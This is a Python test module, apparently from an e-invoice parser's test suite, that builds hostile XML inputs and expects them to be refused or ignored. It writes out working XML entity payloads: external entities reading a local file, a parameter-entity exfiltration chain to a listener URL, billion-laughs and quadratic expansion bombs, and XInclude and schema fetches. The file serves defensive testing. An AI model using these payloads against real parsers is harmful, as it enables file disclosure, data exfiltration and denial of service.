"""XML that wants files read, connections made, or entities multiplied."""

from collections.abc import Iterator

from tests.hostile_maker import good
from tests.hostile_maker.model import MALFORMED, UNSAFE, Hostile, read, refused
from tests.hostile_maker.pdf_raw import embedding

CANARY_URL = "file:///etc/hostname"
LISTENER = "http://127.0.0.1:8999"
_FAMILY = "xml-entities"
_WHY = "No invoice format declares a DOCTYPE: it is refused before an entity could be looked at."
_IGNORED = "A hint to a reader that nobody has to follow; nothing is fetched and the invoice is read as it stands."

_DOCTYPES = {
    "general-file": (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{CANARY_URL}">]>', "&e;"),
    "general-http": (f'<!DOCTYPE x [<!ENTITY e SYSTEM "{LISTENER}/e">]>', "&e;"),
    "dtd-file": (f'<!DOCTYPE x SYSTEM "{CANARY_URL}">', ""),
    "dtd-http": (f'<!DOCTYPE x SYSTEM "{LISTENER}/x.dtd">', ""),
    "dtd-public": (f'<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{LISTENER}/x.dtd">', ""),
    "parameter-file": (f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{CANARY_URL}"> %p;]>', ""),
    "parameter-http": (f'<!DOCTYPE x [<!ENTITY % p SYSTEM "{LISTENER}/p"> %p;]>', ""),
    "parameter-exfiltration": (
        f'<!DOCTYPE x [<!ENTITY % f SYSTEM "{CANARY_URL}"><!ENTITY % d SYSTEM "{LISTENER}/d.dtd"> %d; %f;]>',
        "",
    ),
    "billion-laughs": (
        "<!DOCTYPE x [<!ENTITY a0 'ha'>"
        + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 11))
        + "]>",
        "&a10;",
    ),
    "quadratic": (f"<!DOCTYPE x [<!ENTITY a '{'A' * 20_000}'>]>", "&a;" * 10_000),
    "self-reference": ("<!DOCTYPE x [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>", "&a;"),
    "default-attribute": ("<!DOCTYPE x [<!ATTLIST x y CDATA 'from the DTD'>]>", ""),
    "empty-doctype": ("<!DOCTYPE x>", ""),
}
_EVERYWHERE = ("general-file", "general-http", "parameter-http", "billion-laughs")


def cases() -> Iterator[Hostile]:
    """Every kind of entity in CII; the usual ones in the other syntaxes, in a Factur-X, and in a pivot's original."""
    for kind in _DOCTYPES:
        for syntax in good.SYNTAXES if kind in _EVERYWHERE else ("cii",):
            yield refused(
                _FAMILY, f"{kind}-{syntax}.xml", f"{kind} entity in {syntax}", lambda k=kind, s=syntax: _with(k, s),
                MALFORMED if kind == "self-reference" else UNSAFE, _WHY,
            )  # fmt: skip
    for kind in _EVERYWHERE:
        yield refused(
            _FAMILY, f"{kind}-facturx.pdf", f"{kind} entity in the XML of a Factur-X",
            lambda k=kind: embedding(_with(k, "cii")), UNSAFE, _WHY,
        )  # fmt: skip
        yield read(
            _FAMILY, f"{kind}-in-original-of-pivot.xml", f"{kind} entity in the zipped original of a pivot",
            lambda k=kind: good.pivot_around(_with(k, "cii")),
            "The header has all that routes; an original that is refused is not read.",
        )  # fmt: skip
    yield from _hints()


def _with(kind: str, syntax: str) -> bytes:
    doctype, use = _DOCTYPES[kind]
    content = good.SYNTAXES[syntax]()
    head, _, body = content.partition(b"?>\n")
    body = body.replace(good.BILL.number.encode(), use.encode()) if use else body
    return head + b"?>\n" + doctype.encode() + b"\n" + body


def _hints() -> Iterator[Hostile]:
    for syntax, make in good.SYNTAXES.items():
        yield read(
            _FAMILY, f"schema-location-http-{syntax}.xml", f"a schema to be fetched, in {syntax}",
            lambda m=make: _on_root(
                m(),
                ' xmlns:hint="http://www.w3.org/2001/XMLSchema-instance"'
                f' hint:schemaLocation="urn:x {LISTENER}/x.xsd"',
            ), _IGNORED,
        )  # fmt: skip
        yield read(
            _FAMILY, f"stylesheet-http-{syntax}.xml", f"a style sheet to be fetched, in {syntax}",
            lambda m=make: m().replace(
                b"?>\n", b'?>\n<?xml-stylesheet type="text/xsl" href="%b/x.xsl"?>\n' % LISTENER.encode(), 1
            ), _IGNORED,
        )  # fmt: skip
    for name, target in (("file", CANARY_URL), ("http", f"{LISTENER}/x")):
        for syntax, make in good.SYNTAXES.items():
            yield read(
                _FAMILY, f"xinclude-{name}-{syntax}.xml", f"XInclude of a {name} in {syntax}",
                lambda m=make, t=target: _included(m(), t), _IGNORED,
            )  # fmt: skip


def _on_root(content: bytes, attributes: str) -> bytes:
    """The document with more attributes on its root."""
    start = content.index(b"<", content.index(b"?>"))
    end = min(content.index(mark, start) for mark in (b" ", b">"))
    return content[:end] + attributes.encode() + content[end:]


def _included(content: bytes, target: str) -> bytes:
    """The document with an inclusion as the last child of its root."""
    end = content.rindex(b"</")
    inclusion = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{target}" parse="text"/>'
    return content[:end] + inclusion.encode() + content[end:]
